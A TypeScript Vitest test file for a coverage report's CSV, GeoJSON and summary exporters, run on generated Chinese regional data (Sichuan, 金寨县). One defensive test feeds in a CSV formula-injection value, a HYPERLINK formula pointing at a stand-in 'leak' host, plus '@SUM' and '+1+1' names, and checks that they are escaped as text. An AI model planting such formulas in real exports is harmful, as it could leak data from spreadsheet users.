/**
 * Exports of a coverage report computed on the generated data (Sichuan province, and 金寨县):
 * the CSV (BOM, CRLF, section headers, one row per county, area, layer, project, distance and
 * nearest row, numbers that read back to the report's to 0.01, RFC 4180 quoting of commas,
 * quotes and line breaks), the GeoJSON (region with totals, one feature per project) and the
 * text summary.
 */
import { describe, expect, it } from 'vitest';
import Papa from 'papaparse';
import type { Feature, MultiPolygon, Polygon } from 'geojson';
import { atlas } from '../../test/unit/generatedData';
import { buildAnalysisIndex, coverageReport, type CoverageReport } from './analysis';
import { BOM, reportCsv, reportGeoJson, reportSummary } from './reportExport';

const data = atlas();
const index = buildAnalysisIndex(data);
const sichuan = data.provinces.features.find((f) => (f.properties as { provCode?: string }).provCode === '51')! as Feature<Polygon | MultiPolygon>;
const report = coverageReport(index, sichuan, { within: [{ layer: 'railway', km: 50 }], sampleCount: 1000 });
const jinzhai = data.countyByAdcode.get('341524')! as Feature<Polygon | MultiPolygon>;
const small = coverageReport(index, jinzhai);

/** The CSV's rows of fields, read by Papa Parse (RFC 4180); it must end with CRLF. */
function parseCsv(text: string): string[][] {
  if (!text.endsWith('\r\n')) throw new Error('CSV does not end with CRLF');
  const r = Papa.parse<string[]>(text.slice(0, -2), { newline: '\r\n' });
  if (r.errors.length) throw new Error(r.errors[0].message);
  return r.data;
}

/** The data rows of the CSV section whose rows start with `kind`, after the BOM. */
function rowsOf(csv: string, kind: string): string[][] {
  return parseCsv(csv.slice(BOM.length)).filter((r) => r[0] === kind);
}
const headerOf = (csv: string, second: string, third: string) => parseCsv(csv.slice(BOM.length)).find((r) => r[0] === 'section' && r[1] === second && r[2] === third);

describe('reportCsv of a real report (Sichuan)', () => {
  const csv = reportCsv(report, '四川省');

  it('the report is substantial: many counties, projects of several layers, a distance row', () => {
    expect(report.counties.length).toBeGreaterThan(150);
    expect(report.projects.length).toBeGreaterThan(10);
    expect(report.layers.length).toBeGreaterThan(3);
    expect(report.within).toHaveLength(1);
  });

  it('starts with one BOM and ends every line with CRLF (no bare LF or CR)', () => {
    expect(csv.startsWith('\uFEFF')).toBe(true);
    expect(csv.charCodeAt(1)).not.toBe(0xfeff);
    expect(csv.endsWith('\r\n')).toBe(true);
    expect(csv.replace(/\r\n/g, '')).not.toMatch(/[\r\n]/);
  });

  it('has the region rows and a header row per section', () => {
    const rows = parseCsv(csv.slice(1));
    expect(rows[0]).toEqual(['section', 'region']);
    expect(rows[1]).toEqual(['region', '四川省']);
    expect(headerOf(csv, 'adcode', 'county')).toEqual(['section', 'adcode', 'county', 'province', 'county_area_km2', 'inside_km2', 'share_pct', 'special_areas']);
    expect(headerOf(csv, 'group', 'area_id')).toEqual(['section', 'group', 'area_id', 'area', 'counties', 'inside_km2']);
    expect(headerOf(csv, 'layer', 'category')).toEqual(['section', 'layer', 'category', 'count', 'km_inside', 'mw_inside']);
    expect(headerOf(csv, 'id', 'layer')).toEqual(['section', 'id', 'layer', 'name', 'km_inside', 'km_total', 'capacity_mw']);
    expect(headerOf(csv, 'layer', 'within_km')).toEqual(['section', 'layer', 'within_km', 'area_share_pct', 'area_share_error_pct', 'seats_within', 'seat_share_pct']);
    expect(headerOf(csv, 'adcode', 'county')).toBeDefined();
    const nearest = parseCsv(csv.slice(1)).filter((r) => r[0] === 'section' && r[1] === 'adcode').at(-1);
    expect(nearest).toEqual(['section', 'adcode', 'county', 'nearest_railway_km', 'nearest_airport_km', 'nearest_transmission_km']);
    // sections are separated by one empty line each: 6 of them
    expect(rows.filter((r) => r.length === 1 && r[0] === '')).toHaveLength(6);
  });

  it("has as many rows of each kind as the report has entries, every row as wide as its header", () => {
    expect(rowsOf(csv, 'county')).toHaveLength(report.counties.length);
    expect(rowsOf(csv, 'group')).toHaveLength(report.groups.length);
    expect(rowsOf(csv, 'area')).toHaveLength(report.areas.length);
    expect(rowsOf(csv, 'layer')).toHaveLength(report.layers.length);
    expect(rowsOf(csv, 'project')).toHaveLength(report.projects.length);
    expect(rowsOf(csv, 'within')).toHaveLength(1);
    expect(rowsOf(csv, 'nearest')).toHaveLength(report.nearest.length);
    for (const r of rowsOf(csv, 'county')) expect(r).toHaveLength(8);
    for (const r of rowsOf(csv, 'project')) expect(r).toHaveLength(7);
    for (const r of rowsOf(csv, 'nearest')) expect(r).toHaveLength(6);
  });

  it('numbers read back to the report’s values within 0.005 (rounded to 2 places; nearest km to 1)', () => {
    const rows = parseCsv(csv.slice(1));
    expect(Number(rows[2][1])).toBeCloseTo(report.region.areaKm2, 2);
    expect(Number(rows[3][1])).toBeCloseTo(report.region.perimeterKm, 2);
    expect(Number(rows[4][1])).toBe(report.counties.length);
    rowsOf(csv, 'county').forEach((r, i) => {
      const c = report.counties[i];
      expect(r.slice(1, 4)).toEqual([c.adcode, c.name, c.provName]);
      expect(Number(r[4])).toBeCloseTo(c.areaKm2, 2);
      expect(Number(r[5])).toBeCloseTo(c.insideKm2, 2);
      expect(Number(r[6])).toBeCloseTo(c.sharePct, 2);
      expect(r[7].split(' ').filter(Boolean)).toEqual(c.areaIds);
    });
    rowsOf(csv, 'project').forEach((r, i) => {
      const p = report.projects[i];
      expect(r.slice(1, 4)).toEqual([p.id, p.layer, p.name_zh]);
      expect(Number(r[4])).toBeCloseTo(p.kmInside, 2);
      expect(Number(r[5])).toBeCloseTo(p.kmTotal, 2);
      expect(r[6] === '' ? null : Number(r[6])).toBe(p.capacityMW);
    });
    rowsOf(csv, 'layer').forEach((r, i) => {
      const l = report.layers[i];
      expect([r[1], r[2], Number(r[3])]).toEqual([l.layer, l.category, l.count]);
      expect(Number(r[4])).toBeCloseTo(l.kmInside, 2);
      expect(Number(r[5])).toBeCloseTo(l.mwInside, 2);
    });
    const [w] = rowsOf(csv, 'within');
    expect([w[1], Number(w[2]), Number(w[5])]).toEqual(['railway', 50, report.within[0].seatCount]);
    expect(Number(w[3])).toBeCloseTo(report.within[0].areaSharePct, 2);
    rowsOf(csv, 'nearest').forEach((r, i) => {
      const n = report.nearest[i];
      expect(r[1]).toBe(n.adcode);
      expect(Number(r[3])).toBeCloseTo(n.km.railway!, 1);
    });
  });

  it('holds the Chinese names: the province, its counties and the projects', () => {
    expect(report.counties.every((c) => c.provName === '四川省')).toBe(true);
    expect(csv).toContain(',四川省,');
    for (const c of report.counties.slice(0, 20)) expect(csv).toContain(`,${c.name},`);
    expect(rowsOf(csv, 'project').every((r) => /[\u4e00-\u9fff]/.test(r[3]))).toBe(true);
  });

  it('a one-county report (金寨县) has exactly one county row at 100%', () => {
    const rows = rowsOf(reportCsv(small, '金寨县'), 'county');
    expect(rows).toHaveLength(1);
    expect(rows[0].slice(1, 4)).toEqual(['341524', '金寨县', '安徽省']);
    expect(Number(rows[0][6])).toBe(100);
  });
});

describe('CSV quoting (RFC 4180)', () => {
  const odd = '甲,乙 "丙"\n丁\r戊';

  it('a title or name that starts like a formula (=, +, -, @) is written as text, never as a formula; numbers stay numbers', () => {
    const evil = '=HYPERLINK("//example.invalid/?leak","click")';
    const crafted: CoverageReport = {
      ...report,
      counties: report.counties.map((c, i) => (i === 0 ? { ...c, name: '@SUM(A1:A9)', provName: '+1+1' } : c)),
      projects: report.projects.map((p) => ({ ...p, name_zh: '-2+3' })),
    };
    const csv = reportCsv(crafted, evil);
    expect(rowsOf(csv, 'region')[0][1]).toBe(`'${evil}`);
    const county = rowsOf(csv, 'county')[0];
    expect([county[2], county[3]]).toEqual(["'@SUM(A1:A9)", "'+1+1"]);
    expect(rowsOf(csv, 'project').length).toBeGreaterThan(0);
    for (const p of rowsOf(csv, 'project')) expect(p[3]).toBe("'-2+3");
    // no field of the file starts a formula (a negative number is a number)
    for (const r of parseCsv(csv.slice(BOM.length))) for (const f of r) expect(f, f).not.toMatch(/^[=+@\t\r]|^-(?![0-9])/);
    expect(rowsOf(reportCsv(report, '四川省'), 'area_km2')[0][1]).toMatch(/^\d+(\.\d+)?$/);
  });

  it('names with commas, quotes and line breaks read back unchanged from a whole report', () => {
    const crafted: CoverageReport = {
      ...small,
      counties: small.counties.map((c) => ({ ...c, name: odd, provName: '安徽省, 六安市' })),
      areas: small.areas.map((a) => ({ ...a, name: `"${a.name}"` })),
      projects: [{ id: 'p,1', layer: 'railway', category: 'transport', name_zh: odd, kind: 'point', kmInside: 0, kmTotal: 0, capacityMW: 1234.5, pieces: [[[115.9, 31.7]]] }],
      nearest: small.nearest.map((n) => ({ ...n, name: odd })),
    };
    const csv = reportCsv(crafted, 'title, with "quotes"');
    const rows = parseCsv(csv.slice(1));
    expect(rows[1]).toEqual(['region', 'title, with "quotes"']);
    const [county] = rowsOf(csv, 'county');
    expect(county.slice(1, 4)).toEqual(['341524', odd, '安徽省, 六安市']);
    expect(county).toHaveLength(8);
    expect(rowsOf(csv, 'area').map((r) => r[3])).toEqual(small.areas.map((a) => `"${a.name}"`));
    expect(rowsOf(csv, 'project')).toEqual([['project', 'p,1', 'railway', odd, '0', '0', '1234.5']]);
    expect(rowsOf(csv, 'nearest')[0][2]).toBe(odd);
    expect(csv).toContain('"甲,乙 ""丙""\n丁\r戊"');
  });
});

describe('reportGeoJson', () => {
  const fc = reportGeoJson(sichuan, report, '四川省');

  it('is the region with the totals, then one feature per project', () => {
    expect(fc.features).toHaveLength(1 + report.projects.length);
    const [region, ...projects] = fc.features;
    expect(region.geometry).toBe(sichuan.geometry);
    const p = region.properties!;
    expect(p.kind).toBe('region');
    expect(p.title).toBe('四川省');
    expect(p.counties).toBe(report.counties.length);
    expect(p.area_km2).toBeCloseTo(report.region.areaKm2, 2);
    expect(String(p.counties_list).split('; ')).toHaveLength(report.counties.length);
    expect(p.counties_list).toContain(`${report.counties[0].adcode} ${report.counties[0].name} `);
    for (const l of report.layers) expect(p[`${l.layer}_count`], l.layer).toBe(l.count);
    for (const g of report.groups) expect(p[`counties_${g.group}`], g.group).toBe(g.counties);
    expect(p.within_50km_railway_area_pct).toBeCloseTo(report.within[0].areaSharePct, 2);
    projects.forEach((f, i) => {
      const hit = report.projects[i];
      expect(f.properties).toMatchObject({ kind: 'project', id: hit.id, layer: hit.layer, name: hit.name_zh, capacity_mw: hit.capacityMW });
      expect(f.geometry.type).toBe(hit.kind === 'point' ? 'Point' : 'MultiLineString');
    });
    expect(projects.some((f) => f.geometry.type === 'Point')).toBe(true);
    expect(projects.some((f) => f.geometry.type === 'MultiLineString')).toBe(true);
  });

  it('survives JSON with its Chinese names', () => {
    const back = JSON.parse(JSON.stringify(fc));
    expect(back.features[0].properties.title).toBe('四川省');
    expect(back.features.slice(1).map((f: Feature) => f.properties!.name)).toEqual(report.projects.map((p) => p.name_zh));
  });
});

describe('reportSummary', () => {
  it('zh: title, area, county and project counts, railways, airports and the distance line', () => {
    const s = reportSummary(report, '四川省', 'zh').split('\n');
    expect(s).toHaveLength(3 + report.within.length);
    expect(s[0]).toMatch(/^四川省：面积 [\d,.]+ km²，周长 [\d,.]+ km$/);
    expect(s[0]).toContain(report.region.areaKm2.toLocaleString('zh-CN', { maximumFractionDigits: 1 }));
    expect(s[1]).toContain(`涉及 ${report.counties.length} 个县`);
    const rail = report.layers.find((l) => l.layer === 'railway')!;
    expect(s[2]).toContain(`规划项目 ${report.projects.length} 个；铁路 ${rail.count} 条`);
    expect(s[2]).toContain(`机场 ${report.airports.length} 个`);
    expect(s[3]).toContain(`县城 ${report.within[0].seatCount}/${report.counties.length}`);
  });

  it('en: the same numbers; a report without railways says 0', () => {
    const s = reportSummary(report, 'Sichuan', 'en').split('\n');
    expect(s[1]).toMatch(new RegExp(`^${report.counties.length} counties; `));
    expect(s[2]).toContain(`${report.projects.length} plan projects`);
    const none = reportSummary({ ...small, layers: [], projects: [], airports: [] }, '金寨县', 'en');
    expect(none).toContain('0 plan projects; railways 0, 0 km inside; airports 0');
  });
});
